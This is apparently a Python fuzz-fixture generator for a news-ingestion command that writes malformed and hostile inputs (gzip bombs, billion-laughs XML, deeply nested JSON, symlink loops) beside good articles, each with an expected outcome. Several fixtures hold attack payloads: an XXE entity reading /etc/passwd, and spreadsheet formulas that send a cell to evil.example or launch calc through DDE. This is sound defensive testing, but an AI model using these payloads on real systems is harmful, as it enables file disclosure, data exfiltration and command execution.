"""Write hostile inputs for ``newsfuse ingest``, each beside good articles, with what should happen.

    .venv/bin/python tools/hostile.py OUT_DIR          # write every class, print the table
    .venv/bin/python tools/hostile.py OUT_DIR --only warc-truncated gzip-bomb
    .venv/bin/newsfuse ingest OUT_DIR/tree --json --no-annotate --db sqlite:///hostile.db

Every class is one function that writes into its own folder ``OUT_DIR/tree/<class>/`` (or
``OUT_DIR/args/<class>/`` for inputs that must be named on the command line, such as a
FIFO) and returns a :class:`Case`: what each input should become (stored articles, a reject
whose reason holds some words, or a skipped entry). Every folder also holds two good
articles (a ``.txt`` and a ``.json``) that must always be stored. The articles are short
texts written for this file; nothing is copied from a corpus. ``tests/test_hostile.py``
runs the whole set through the CLI and checks every expectation.

Generation is deterministic (seeded) and fast: the bombs are built from repeated gzip
members or streamed compression, never by writing their decompressed size to disk.
"""

from __future__ import annotations

import argparse
import gzip
import hashlib
import io
import json
import os
import random
import sys
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Literal

Outcome = Literal["stored", "rejected", "skipped"]


@dataclass(frozen=True)
class Expect:
    """What one input (``source``, relative to the class folder) must become.

    ``stored``: exactly ``count`` articles whose source is ``source`` or starts with it
    followed by ``:``, ``#`` or ``[``. ``rejected`` / ``skipped``: at least ``count``
    rejects so sourced, every one with all ``words`` in its reason (case-insensitive).
    ``text_has`` / ``text_lacks`` / ``title_lacks`` are checked on the stored articles.
    """

    source: str
    outcome: Outcome
    words: tuple[str, ...] = ()
    count: int = 1
    text_has: tuple[str, ...] = ()
    text_lacks: tuple[str, ...] = ()
    title_lacks: tuple[str, ...] = ()


@dataclass(frozen=True)
class Case:
    """One hostile class as written: its folder, and what every input in it must become."""

    name: str
    what: str
    folder: Path
    expect: tuple[Expect, ...]
    argument: bool = False
    """The class is ingested as command-line arguments of its own (``args/``), not in the tree."""
    needs: str | None = None
    """Set when passing needs a change outside the readers (the reason for an expected failure)."""
    exit_status: int | None = None
    """For argument classes: the exit status ``newsfuse ingest`` must end with."""
    extra: dict[str, str] = field(default_factory=dict)


# -- good articles -------------------------------------------------------------------------

_PLACES = ["Rotterdam", "Valparaiso", "Gdansk", "Mombasa", "Tromso", "Cebu", "Halifax", "Izmir"]
_BODIES = ["port authority", "regional water board", "city council", "ferry operator",
           "harbour pilots' union", "fisheries agency", "coast guard", "grain exporters' group"]  # fmt: skip
_ACTS = ["approved a plan to dredge the outer channel", "delayed a vote on new berth fees",
         "signed a contract for two electric tugs", "opened an inquiry into a fuel spill",
         "agreed to extend night shifts at the container terminal",
         "announced a study of storm damage to the breakwater"]  # fmt: skip
_DAYS = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday"]


def good_article(seed: str) -> tuple[str, str]:
    """A short, plausible, unique news article (title, body) for ``seed``."""
    rng = random.Random(hashlib.sha256(seed.encode()).digest())
    place, body, act, day = (rng.choice(x) for x in (_PLACES, _BODIES, _ACTS, _DAYS))
    money, share, jobs = rng.randint(12, 480), rng.randint(3, 40), rng.randint(40, 900)
    title = f"{place} {body} {act.split(' ', 1)[0]} {act.split(' ', 1)[1].split(' ')[0]} plan"
    text = (
        f"The {body} in {place} {act} on {day}, officials said, in a decision that "
        f"follows months of talks with shipping firms and local residents.\n\n"
        f"The measure is expected to cost about {money} million euros over three years. "
        f"Traffic through the port rose by {share} percent last year, and the {body} said "
        f"about {jobs} jobs depend on the terminal.\n\n"
        f"Opponents said the plan was rushed. A spokesperson for the {body} said a public "
        f"hearing would be held before work starts. (Reference {seed}.)"
    )
    return title, text


def write_good(folder: Path, name: str) -> tuple[Expect, ...]:
    """Two good articles in ``folder`` (a .txt and a .json); both must be stored."""
    title, text = good_article(f"{name}-txt")
    (folder / f"good-{name}.txt").write_text(f"{title}\n\n{text}\n", encoding="utf-8")
    title, text = good_article(f"{name}-json")
    record = {"id": f"good-{name}-json", "title": title, "text": text, "outlet": "Harbour Wire"}
    (folder / f"good-{name}.json").write_text(json.dumps(record), encoding="utf-8")
    return (
        Expect(f"good-{name}.txt", "stored"),
        Expect(f"good-{name}.json", "stored"),
    )


def _record(name: str, **fields: object) -> dict[str, object]:
    title, text = good_article(name)
    return {"id": name, "title": title, "text": text, **fields}


def _jsonl(records: list[object]) -> str:
    return "".join(json.dumps(r) + "\n" for r in records)


# -- building blocks -----------------------------------------------------------------------


def stream_gzip(chunk: bytes, times: int) -> bytes:
    """One gzip member of ``chunk`` repeated ``times`` times, compressed as it streams."""
    out = io.BytesIO()
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    for _ in range(times):
        out.write(comp.compress(chunk))
    out.write(comp.flush())
    return out.getvalue()


def member_bomb(chunk: bytes, members: int) -> bytes:
    """``members`` gzip members of ``chunk`` each (multi-member gzip, as .warc.gz is)."""
    return gzip.compress(chunk, 9) * members


def warc_record(
    url: str, payload: bytes, *, status: str = "200 OK", content_type: str = "text/html"
) -> bytes:
    """One WARC/1.0 response record holding an HTTP response, written by hand."""
    http = (
        f"HTTP/1.1 {status}\r\nContent-Type: {content_type}\r\n"
        f"Content-Length: {len(payload)}\r\n\r\n"
    ).encode() + payload
    return _warc(url, "response", "application/http; msgtype=response", http)


def _warc(url: str, rec_type: str, content_type: str, block: bytes, length: bool = True) -> bytes:
    digest = hashlib.sha1(block).hexdigest()  # an identifier, not security
    head = (
        f"WARC/1.0\r\nWARC-Type: {rec_type}\r\nWARC-Target-URI: {url}\r\n"
        f"WARC-Date: 2025-03-04T09:30:00Z\r\n"
        f"WARC-Record-ID: <urn:uuid:{digest[:8]}-{digest[8:12]}-{digest[12:16]}-"
        f"{digest[16:20]}-{digest[20:32]}>\r\nContent-Type: {content_type}\r\n"
    )
    if length:
        head += f"Content-Length: {len(block)}\r\n"
    return head.encode() + b"\r\n" + block + b"\r\n\r\n"


def html_page(seed: str) -> bytes:
    title, text = good_article(seed)
    paragraphs = "".join(f"<p>{p}</p>\n" for p in text.split("\n\n"))
    return (
        f"<!DOCTYPE html><html><head><title>{title}</title></head><body>"
        f"<article><h1>{title}</h1>\n{paragraphs}</article></body></html>"
    ).encode()


def reuters_story(newid: int, seed: str) -> str:
    title, text = good_article(seed)
    return (
        f'<REUTERS TOPICS="NO" LEWISSPLIT="TRAIN" CGISPLIT="TRAINING-SET" OLDID="{newid + 5000}" '
        f'NEWID="{newid}">\n<DATE>26-FEB-1987 15:01:01.79</DATE>\n<TOPICS></TOPICS>\n'
        f"<PLACES><D>usa</D></PLACES>\n<TEXT>&#2;\n<TITLE>{title.upper()}</TITLE>\n"
        f"<DATELINE>    HOUSTON, Feb 26 - </DATELINE><BODY>{text}\n Reuter\n&#3;</BODY></TEXT>\n"
        "</REUTERS>\n"
    )


def feed(items: str, doctype: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}<rss version="2.0"><channel>'
        f"<title>Harbour Wire</title><link>https://wire.example/</link>{items}</channel></rss>"
    )


def feed_item(seed: str, extra: str = "") -> str:
    title, text = good_article(seed)
    return (
        f"<item><title>{title}</title><link>https://wire.example/{seed}</link>"
        f"<description>{text.replace(chr(10), ' ')} {extra}</description></item>"
    )


# -- the classes ---------------------------------------------------------------------------

Writer = Callable[[Path], tuple[str, tuple[Expect, ...]]]
TREE: dict[str, Writer] = {}
ARGS: dict[str, Writer] = {}


def tree_case(name: str, needs: str | None = None):  # type: ignore[no-untyped-def]
    def register(func: Writer) -> Writer:
        TREE[name] = func
        if needs:
            NEEDS[name] = needs
        return func

    return register


def arg_case(name: str, exit_status: int):  # type: ignore[no-untyped-def]
    def register(func: Writer) -> Writer:
        ARGS[name] = func
        EXIT[name] = exit_status
        return func

    return register


NEEDS: dict[str, str] = {}
EXIT: dict[str, int] = {}

DEEP = 100_000


@tree_case("deep-json")
def _deep_json(d: Path):
    (d / "deep.json").write_text('{"id": "deep", "text": ' + "[" * DEEP + "]" * DEEP + "}")
    return "JSON nested 100,000 levels deep", (Expect("deep.json", "rejected", ("nested",)),)


@tree_case("deep-jsonl")
def _deep_jsonl(d: Path):
    deep = '{"id": "deep-line", "meta": ' + '{"a": ' * DEEP + "1" + "}" * DEEP + "}"
    text = json.dumps(_record("jsonl-before")) + "\n" + deep + "\n"
    (d / "deep.jsonl").write_text(text + json.dumps(_record("jsonl-after")) + "\n")
    return "a JSON line nested 100,000 levels deep between two good lines", (
        Expect("deep.jsonl", "stored", count=2),
        Expect("deep.jsonl:2", "rejected", ("nested",)),
    )


@tree_case("warc-endless-line")
def _warc_endless(d: Path):
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    data = comp.compress(b"WARC/1.0 ") + b"".join(comp.compress(b"A" * 2**20) for _ in range(100))
    (d / "endless.warc.gz").write_bytes(data + comp.flush())
    (d / "endless.warc").write_bytes(b"WARC/1.0 " + b"A" * (2 * 2**20))
    return "a WARC whose first line never ends (100 KB gzip of 100 MB; 2 MB uncompressed)", (
        Expect("endless.warc.gz", "rejected", ("longer than",)),
        Expect("endless.warc", "rejected", ("longer than",)),
    )


def _three_pages(prefix: str) -> list[bytes]:
    return [
        warc_record(f"https://news.example/{prefix}-{n}", html_page(f"{prefix}-{n}"))
        for n in (1, 2, 3)
    ]


@tree_case("warc-truncated")
def _warc_truncated(d: Path):
    members = [gzip.compress(r) for r in _three_pages("warc-cut")]
    data = b"".join(members)
    (d / "cut.warc.gz").write_bytes(data[: len(data) - len(members[-1]) // 2])
    return "a .warc.gz of 3 pages cut inside the third gzip member", (
        Expect("cut.warc.gz", "stored", count=2),
        Expect("cut.warc.gz#3", "rejected", ("truncated",)),
    )


@tree_case("warc-record-cut")
def _warc_record_cut(d: Path):
    data = b"".join(_three_pages("cut-record"))
    (d / "cut-record.warc").write_bytes(data[:-600])
    return "an uncompressed WARC whose last record's page is cut in the middle", (
        Expect("cut-record.warc", "stored", count=2),
        Expect("cut-record.warc#3", "rejected", ("cut short", "truncated")),
    )


@tree_case("sgm-truncated")
def _sgm_truncated(d: Path):
    stories = "".join(reuters_story(n, f"sgm-{n}") for n in (101, 102, 103))
    text = '<!DOCTYPE lewis SYSTEM "lewis.dtd">\n' + stories
    (d / "cut.sgm").write_text(text[: len(text) - 300], encoding="utf-8")
    return "a Reuters .sgm cut inside its last story", (
        Expect("cut.sgm", "stored", count=2),
        Expect("cut.sgm#103", "rejected", ("truncated",)),
    )


@tree_case("sgm-binary")
def _sgm_binary(d: Path):
    (d / "junk.sgm").write_bytes(random.Random(7).randbytes(50_000))
    return "random bytes named .sgm", (Expect("junk.sgm", "rejected", ("binary",)),)


@tree_case("sgm-gz-bomb")
def _sgm_bomb(d: Path):
    (d / "bomb.sgm.gz").write_bytes(member_bomb(b"\n" * 2**20, 2_000))
    (d / "spaces.sgm.gz").write_bytes(member_bomb(b"<REUTERS>" + b" " * 2**20, 300))
    return "gzip bombs named .sgm.gz (2 GB of newlines in 2 MB; 300 MB of spaces)", (
        Expect("bomb.sgm.gz", "rejected", ("bomb",)),
        Expect("spaces.sgm.gz", "rejected", ("bomb",)),
    )


@tree_case("jsonl-empty")
def _jsonl_empty(d: Path):
    (d / "empty.jsonl").write_bytes(b"")
    (d / "blank.jsonl").write_text("\n\n   \n\t\n")
    return "an empty .jsonl and one of blank lines", (
        Expect("empty.jsonl", "rejected", ("empty",)),
        Expect("blank.jsonl", "rejected", ("empty",)),
    )


@tree_case("symlink-loop")
def _symlink_loop(d: Path):
    os.symlink("loop-b.txt", d / "loop-a.txt")
    os.symlink("loop-a.txt", d / "loop-b.txt")
    os.symlink("self.txt", d / "self.txt")
    os.symlink(".", d / "here")
    return "symbolic link loops, and a link to its own directory", (
        Expect("loop-a.txt", "skipped", ("loop",)),
        Expect("loop-b.txt", "skipped", ("loop",)),
        Expect("self.txt", "skipped", ("loop",)),
        Expect("here", "skipped", ("link to a directory",)),
    )


@tree_case("dangling-link")
def _dangling(d: Path):
    os.symlink("deleted-story.txt", d / "gone.txt")
    return "a link to a file that does not exist", (Expect("gone.txt", "skipped", ("dangling",)),)


@tree_case("dotfile")
def _dotfile(d: Path):
    title, text = good_article("hidden")
    (d / ".hidden.txt").write_text(f"{title}\n\n{text}\n")
    (d / ".cache").mkdir()
    (d / ".cache" / "page.html").write_bytes(html_page("cached"))
    return "a hidden file and a hidden directory", (
        Expect(".hidden.txt", "skipped", ("hidden",)),
        Expect(".cache", "skipped", ("hidden",)),
    )


@tree_case("fifo-in-dir")
def _fifo_in_dir(d: Path):
    os.mkfifo(d / "pipe.txt")
    return "a FIFO inside a directory", (Expect("pipe.txt", "skipped", ("FIFO",)),)


@tree_case("huge-text-txt")
def _huge_txt(d: Path):
    title, text = good_article("long-txt")
    paragraphs = [f"{text} Paragraph {n}." for n in range(1_200_000 // len(text) + 1)]
    body = "\n\n".join(paragraphs)
    (d / "long.txt").write_text(f"{title}\n\n{body}\n")
    return f"a plain-text article of {len(body):,} characters", (Expect("long.txt", "stored"),)


@tree_case("huge-text-jsonl")
def _huge_jsonl(d: Path):
    _, text = good_article("long-jsonl")
    body = "\n\n".join(f"{text} Section {n}." for n in range(1_200_000 // len(text) + 1))
    (d / "long.jsonl").write_text(_jsonl([_record("long-jsonl", text=body)]))
    return f"a JSON Lines record of {len(body):,} characters", (Expect("long.jsonl", "stored"),)


@tree_case("huge-single-line")
def _single_line(d: Path):
    _, text = good_article("one-line")
    line = " ".join([text.replace("\n", " ")] * 4_000)
    (d / "oneline.txt").write_text(line)
    with open(d / "overlong.jsonl", "w") as f:
        f.write('{"id": "overlong", "text": "' + "word " * (22 * 2**20 // 5) + '"}\n')
        f.write(json.dumps(_record("after-overlong")) + "\n")
    return f"a {len(line):,}-character single line; a 22 MB JSON line before a good one", (
        Expect("oneline.txt", "stored"),
        Expect("overlong.jsonl:1", "rejected", ("line longer",)),
        Expect("overlong.jsonl", "stored"),
    )


@tree_case("too-long-text")
def _too_long(d: Path):
    _, text = good_article("too-long")
    body = "\n\n".join([text] * (5_000_000 // len(text) + 100))
    (d / "toolong.txt").write_text(body)
    return f"a text of {len(body):,} characters (over the limit)", (
        Expect("toolong.txt", "rejected", ("characters", "split")),
    )


@tree_case("too-many-lines")
def _many_lines(d: Path):
    (d / "lines.txt").write_text("word\n" * 200_000)
    return "200,000 one-word lines", (Expect("lines.txt", "rejected", ("lines",)),)


@tree_case("nul-bytes")
def _nul_bytes(d: Path):
    title, text = good_article("nuls")
    (d / "nuls.txt").write_bytes(f"{title}\n\n{text}".replace(". ", ".\0 ", 2).encode())
    (d / "mostly-nul.txt").write_bytes(b"\0" * 5_000 + b"words" * 100)
    return "a few NUL bytes in an article; a file mostly of NULs", (
        Expect("nuls.txt", "stored", text_lacks=("\0",)),
        Expect("mostly-nul.txt", "rejected", ("binary",)),
    )


@tree_case("utf16-no-bom")
def _utf16(d: Path):
    title, text = good_article("utf16")
    (d / "utf16.txt").write_bytes(f"{title}\n\n{text}\n".encode("utf-16-le"))
    return "UTF-16 (little-endian) without a byte-order mark", (
        Expect("utf16.txt", "stored", text_has=("officials said",), text_lacks=("\0",)),
    )


POLISH = (
    "Gdańsk port zatwierdza plan\n\n"
    "Władze portu w Gdańsku zatwierdziły we wtorek plan pogłębienia toru wodnego, "
    "poinformowali urzędnicy. Decyzja zapadła po wielu miesiącach rozmów z armatorami i "
    "mieszkańcami Łodzi oraz Gdyni.\n\n"
    "Koszt inwestycji oszacowano na około 120 milionów złotych w ciągu trzech lat. "
    "Przeładunki w porcie wzrosły w zeszłym roku o 14 procent, a od terminalu zależy około "
    "300 miejsc pracy.\n\n"
    "Przeciwnicy twierdzą, że plan przygotowano zbyt pośpiesznie. Rzecznik zarządu zapowiedział "
    "wysłuchanie publiczne przed rozpoczęciem prac.\n"
)
"""A short Polish article (written for this file), stored as cp1250: a genuinely legacy file."""


@tree_case("invalid-utf8")
def _invalid_utf8(d: Path):
    title, text = good_article("pound")
    text = text.replace("officials said", "officials said the £3bn scheme, worth €2bn,")
    data = f"{title}\n\n{text}\n".encode().replace(b"three years", b"three \xff years")
    (d / "pound.txt").write_bytes(data)
    (d / "legacy.txt").write_bytes(POLISH.encode("cp1250"))
    return "UTF-8 with one invalid byte; a cp1250 file", (
        Expect("pound.txt", "stored", text_has=("£3bn", "€2bn"), text_lacks=("Â",)),
        Expect("legacy.txt", "stored", text_has=("Gdańsku", "Łodzi")),
    )


@tree_case("binary-junk")
def _binary_junk(d: Path):
    (d / "junk.txt").write_bytes(random.Random(3).randbytes(20_000))
    (d / "junk.html").write_bytes(random.Random(4).randbytes(20_000))
    return "random bytes with text suffixes", (
        Expect("junk.txt", "rejected", ("binary",)),
        Expect("junk.html", "rejected", ("binary",)),
    )


@tree_case("zip-pdf-png")
def _formats(d: Path):
    buffer = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("story.txt", "\n\n".join(good_article("zipped")))
    (d / "report.txt").write_bytes(buffer.getvalue())
    (d / "scan.txt").write_bytes(
        b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    )
    (d / "photo.txt").write_bytes(b"\x89PNG\r\n\x1a\n" + random.Random(5).randbytes(2_000))
    return "a ZIP, a PDF and a PNG named .txt", (
        Expect("report.txt", "rejected", ("ZIP",)),
        Expect("scan.txt", "rejected", ("PDF",)),
        Expect("photo.txt", "rejected", ("PNG",)),
    )


@tree_case("gzip-bomb")
def _gzip_bomb(d: Path):
    (d / "bomb.txt.gz").write_bytes(stream_gzip(b"\0" * 2**20, 100))
    (d / "bomb.jsonl.gz").write_bytes(member_bomb(b"\n" * 2**20, 10_000))
    return "gzip bombs: 100 MB of zeros (.txt.gz), 10 GB of newlines in 10 MB (.jsonl.gz)", (
        Expect("bomb.txt.gz", "rejected", ("bomb",)),
        Expect("bomb.jsonl.gz", "rejected", ("bomb",)),
    )


@tree_case("truncated-gzip")
def _truncated_gzip(d: Path):
    title, text = good_article("cut-gz-txt")
    whole = gzip.compress(f"{title}\n\n{text}\n".encode() * 3)
    (d / "cut.txt.gz").write_bytes(whole[: len(whole) // 2])
    lines = _jsonl([_record(f"cut-gz-{n}") for n in (1, 2, 3)]).encode()
    comp = zlib.compressobj(6, zlib.DEFLATED, 31)
    data = comp.compress(lines[: int(len(lines) * 0.8)]) + comp.flush(zlib.Z_SYNC_FLUSH)
    (d / "cut.jsonl.gz").write_bytes(data)
    return "gzip files cut short (.txt.gz; .jsonl.gz inside its third line)", (
        Expect("cut.txt.gz", "rejected", ("truncated",)),
        Expect("cut.jsonl.gz", "stored", count=2),
        Expect("cut.jsonl.gz", "rejected", ("truncated",)),
    )


@tree_case("json-wrong-types")
def _wrong_types(d: Path):
    lines = [
        {**_record("types-1"), "text": 12345},
        {**_record("types-2"), "text": ["a", "list"]},
        {**_record("types-3"), "text": {"an": "object"}},
        _record("types-4", published="not a date at all, sometime in the spring"),
        {**_record("types-5"), "id": ["a", "list"]},
        _record("types-6", title={"nested": "object"}),
        _record("types-7", published=20250304, outlet=True),
    ]
    (d / "types.jsonl").write_text(_jsonl(lines))
    return "JSON records whose fields have the wrong types", (
        Expect("types.jsonl:1", "rejected", ("text", "number")),
        Expect("types.jsonl:2", "rejected", ("text", "list")),
        Expect("types.jsonl:3", "rejected", ("text", "object")),
        Expect("types.jsonl:4", "stored"),
        Expect("types.jsonl:5", "rejected", ("id", "list")),
        Expect("types.jsonl:6", "stored"),
        Expect("types.jsonl:7", "stored"),
    )


@tree_case("json-nan-huge")
def _nan_huge(d: Path):
    good = json.dumps(_record("nums-4"))[:-1]
    lines = [
        json.dumps(_record("x"))[:-1].replace('"id": "x"', '"id": NaN') + "}",
        json.dumps(_record("y"))[:-1].replace('"id": "y"', '"id": 1e999') + "}",
        json.dumps(_record("z"))[:-1].replace('"id": "z"', '"id": ' + "9" * 5_000) + "}",
        good + ', "published": 1e308, "score": -Infinity}',
        good.replace("nums-4", "nums-5") + ', "views": ' + "1" * 4_000 + "}",
    ]
    (d / "nums.jsonl").write_text("\n".join(lines) + "\n")
    return "NaN, infinite and 5,000-digit numbers in JSON", (
        Expect("nums.jsonl:1", "rejected", ("id",)),
        Expect("nums.jsonl:2", "rejected", ("id",)),
        Expect("nums.jsonl:3", "rejected", ("JSON value",)),
        Expect("nums.jsonl:4", "stored"),
        Expect("nums.jsonl:5", "stored"),
    )


ARRAY_RECORDS = 100_000


@tree_case("json-array-100k")
def _array(d: Path, records: int = ARRAY_RECORDS):
    tiny = [{"id": f"tiny-{n}", "text": "x"} for n in range(records)]
    (d / "many.json").write_text(json.dumps(tiny))
    return f"a JSON array of {records:,} tiny records", (
        Expect("many.json", "rejected", ("no article text",), count=records),
    )


@tree_case("html-deep")
def _html_deep(d: Path):
    (d / "deep.html").write_bytes(
        b"<html><body>" + b"<div>" * DEEP + html_page("deep-html") + b"</div>" * DEEP
    )
    (d / "deep-300.html").write_bytes(
        b"<html><body>" + b"<div>" * 300 + html_page("deep-300") + b"</div>" * 300
    )
    return "HTML nested 100,000 and 300 levels deep", (
        Expect("deep.html", "rejected", ("elements",)),
        Expect("deep-300.html", "rejected", ("no article text",)),
    )


@tree_case("html-scripts-only")
def _scripts_only(d: Path):
    script = "<script>var a = 1; if (a < 2) { document.write('<p>hi</p>'); }</script>"
    style = "<style>p { color: red } body > div { margin: 0 }</style>"
    (d / "scripts.html").write_text(f"<html><head>{style}</head><body>{script * 200}</body></html>")
    return "an HTML page of scripts and styles only", (
        Expect("scripts.html", "rejected", ("no article text",)),
    )


@tree_case("html-huge")
def _html_huge(d: Path):
    paragraphs = "".join(f"<p>Paragraph {n} of the page.</p>\n" for n in range(40_000))
    (d / "wide.html").write_text(f"<html><body><article>{paragraphs}</article></body></html>")
    return "an HTML page of 40,000 paragraphs (1.3 MB)", (
        Expect("wide.html", "rejected", ("elements",)),
    )


_LAUGHS = "".join(f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, 10))


@tree_case("feed-billion-laughs")
def _laughs(d: Path):
    doctype = f'<!DOCTYPE rss [<!ENTITY lol0 "lol">{_LAUGHS}]>\n'
    (d / "laughs.rss").write_text(feed(feed_item("laughs", "&lol9;"), doctype))
    return "an RSS feed with billion-laughs entity declarations", (
        Expect("laughs.rss", "stored", text_lacks=("lollollol",)),
    )


@tree_case("feed-external-entity")
def _xxe(d: Path):
    doctype = (
        '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
        '<!ENTITY net SYSTEM "http://127.0.0.1:9/x">]>\n'
    )
    (d / "xxe.rss").write_text(feed(feed_item("xxe", "&xxe; &net;"), doctype))
    return "an RSS feed with external entities (a local file, a URL)", (
        Expect("xxe.rss", "stored", text_lacks=("root:",)),
    )


@tree_case("warc-non-http")
def _warc_non_http(d: Path):
    records = [
        _warc("urn:info", "warcinfo", "application/warc-fields", b"software: hostile.py\r\n"),
        _warc("https://a.example/", "request", "application/http; msgtype=request",
              b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n"),
        _warc("dns:a.example", "response", "text/dns", b"20250304093000\na.example. 60 IN A 1.2.3.4\n"),
        _warc("https://a.example/notes.txt", "resource", "text/plain", b"plain notes, not a page"),
        _warc("metadata://a.example", "metadata", "application/warc-fields", b"via: x\r\n"),
    ]  # fmt: skip
    (d / "no-pages.warc").write_bytes(b"".join(records))
    return "a WARC of request, DNS, metadata and plain-text records only", (
        Expect("no-pages.warc", "rejected", ("no HTML pages",)),
    )


@tree_case("warc-no-content-length")
def _warc_no_length(d: Path):
    good = warc_record("https://a.example/first", html_page("no-length-first"))
    http = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n" + html_page("no-length")
    bad = _warc("https://a.example/x", "response", "application/http", http, length=False)
    (d / "no-length.warc").write_bytes(good + bad)
    return "a WARC whose second record has no Content-Length", (
        Expect("no-length.warc", "stored"),
        Expect("no-length.warc#2", "rejected", ("Content-Length",)),
    )


@tree_case("warc-member-bomb")
def _warc_bomb(d: Path):
    good = gzip.compress(warc_record("https://a.example/good", html_page("bomb-good")))
    size = 100 * 2**20
    head = (
        "WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: https://a.example/bomb\r\n"
        f"Content-Type: application/http; msgtype=response\r\nContent-Length: {size}\r\n\r\n"
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n"
    ).encode()
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = comp.compress(head) + b"".join(comp.compress(b"\0" * 2**20) for _ in range(100))
    (d / "bomb.warc.gz").write_bytes(good + bomb + comp.flush())
    return "a .warc.gz with a good record, then a member of 100 MB of zeros", (
        Expect("bomb.warc.gz", "stored"),
        Expect("bomb.warc.gz#2", "rejected", ("bomb",)),
    )


def _json_article(d: Path, file: str, seed: str, **fields: object) -> None:
    (d / file).write_text(json.dumps(_record(seed, **fields)), encoding="utf-8")


@tree_case("markup-title")
def _markup(d: Path):
    _json_article(d, "markup.json", "markup", title="[/] Talks [bold]resume[/bold] [link=x]")
    return "rich markup in a title", (Expect("markup.json", "stored"),)


@tree_case("ansi-bidi")
def _ansi(d: Path):
    title = "\x1b[31mRed alert\x1b[0m \x1b]0;owned\x07 in \u202eport\u202c talks"
    _json_article(d, "ansi.json", "ansi", title=title, outlet="\x1b[2JWire \u2067Desk\u2069")
    return "ANSI escape sequences and bidi controls in title and outlet", (
        Expect("ansi.json", "stored", title_lacks=("\x1b", "\x07")),
    )


@tree_case("csv-formula")
def _formula(d: Path):
    title = '=HYPERLINK("http://evil.example/?q="&A1,"Click for the full story")'
    _json_article(d, "formula.json", "formula", title=title, outlet="+cmd|' /C calc'!A0")
    return "spreadsheet formulas in title and outlet", (Expect("formula.json", "stored"),)


@tree_case("hostile-ids")
def _ids(d: Path):
    lines = [
        _record("long") | {"id": "x" * 600},
        _record("json-suffix") | {"id": "story.json"},
        _record("control") | {"id": "bad\x07id\x1b[2J"},
    ]
    (d / "ids.jsonl").write_text(_jsonl(lines))
    return "ids of 600 characters, ending in .json, with control characters", (
        Expect("ids.jsonl:1", "rejected", ("id",)),
        Expect("ids.jsonl:2", "rejected", ("id",)),
        Expect("ids.jsonl:3", "rejected", ("id",)),
    )


@tree_case("empty-files")
def _empty(d: Path):
    for name in ("empty.txt", "empty.html", "empty.json", "empty.rss"):
        (d / name).write_bytes(b"")
    (d / "spaces.txt").write_text("  \n\n\t \n")
    return "empty and blank files of each kind", tuple(
        Expect(name, "rejected", ("empty",))
        for name in ("empty.txt", "empty.html", "empty.json", "empty.rss", "spaces.txt")
    )


@arg_case("fifo-argument", exit_status=1)
def _fifo_arg(d: Path):
    os.mkfifo(d / "pipe.txt")
    return "a FIFO named on the command line (no writer: reading would block)", (
        Expect("pipe.txt", "rejected", ("FIFO",)),
    )


@arg_case("empty-directory", exit_status=1)
def _empty_dir(d: Path):
    (d / "nothing").mkdir()
    (d / "nothing" / "inner").mkdir()
    return "a directory with no files (only an empty sub-directory)", (
        Expect("nothing", "rejected", ("no files",)),
    )


# -- running -------------------------------------------------------------------------------


@dataclass(frozen=True)
class Run:
    """A finished child process: exit status, output, wall time and peak memory."""

    returncode: int
    stdout: str
    stderr: str
    seconds: float
    max_rss_bytes: int
    timed_out: bool = False


def run_measured(cmd: list[str], timeout: float, env: dict[str, str] | None = None) -> Run:
    """Run ``cmd`` with no input; kill it after ``timeout`` seconds. The peak memory is the
    child's own: its high-water mark ``VmHWM`` in /proc, read while it runs. (Linux's
    ``ru_maxrss`` from ``wait4`` counts the parent's memory at the moment of fork/exec,
    so a child of a large test process would report the parent's size.)"""
    import subprocess
    import tempfile
    import time

    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        start = time.monotonic()
        proc = subprocess.Popen(cmd, stdin=subprocess.DEVNULL, stdout=out, stderr=err, env=env)
        timed_out = False
        high_water = 0
        while True:
            high_water = max(high_water, _vm_hwm(proc.pid))
            pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
            if pid:
                break
            if time.monotonic() - start > timeout:
                proc.kill()
                pid, status, usage = os.wait4(proc.pid, 0)
                timed_out = True
                break
            time.sleep(0.02)
        seconds = time.monotonic() - start
        proc.returncode = os.waitstatus_to_exitcode(status)
        out.seek(0)
        err.seek(0)
        return Run(
            proc.returncode,
            out.read().decode("utf-8", "replace"),
            err.read().decode("utf-8", "replace"),
            seconds,
            high_water or usage.ru_maxrss * 1024,  # kilobytes on Linux
            timed_out,
        )


def _vm_hwm(pid: int) -> int:
    """The peak resident memory of process ``pid`` so far in bytes (0 where /proc has none)."""
    try:
        with open(f"/proc/{pid}/status", encoding="ascii", errors="replace") as status:
            for line in status:
                if line.startswith("VmHWM:"):
                    return int(line.split()[1]) * 1024
    except (OSError, ValueError, IndexError):
        pass
    return 0


# -- writing -------------------------------------------------------------------------------


def write_case(root: Path, name: str, array_records: int = ARRAY_RECORDS) -> Case:
    """Write class ``name`` (with its good files) under ``root`` and return what to expect.

    ``array_records`` sizes the JSON array class (tests use fewer to stay quick).
    """
    argument = name in ARGS
    writer = ARGS[name] if argument else TREE[name]
    folder = root / ("args" if argument else "tree") / name
    folder.mkdir(parents=True, exist_ok=True)
    if writer is _array:
        what, expect = _array(folder, array_records)
    else:
        what, expect = writer(folder)
    if not argument:
        expect = (*expect, *write_good(folder, name))
    return Case(name, what, folder, expect, argument, NEEDS.get(name), EXIT.get(name))


def write_all(
    root: Path, only: list[str] | None = None, array_records: int = ARRAY_RECORDS
) -> list[Case]:
    """Write every class (or ``only`` these) under ``root``."""
    names = only or [*TREE, *ARGS]
    unknown = [n for n in names if n not in TREE and n not in ARGS]
    if unknown:
        raise SystemExit(
            f"unknown classes: {', '.join(unknown)}; known: {', '.join([*TREE, *ARGS])}"
        )
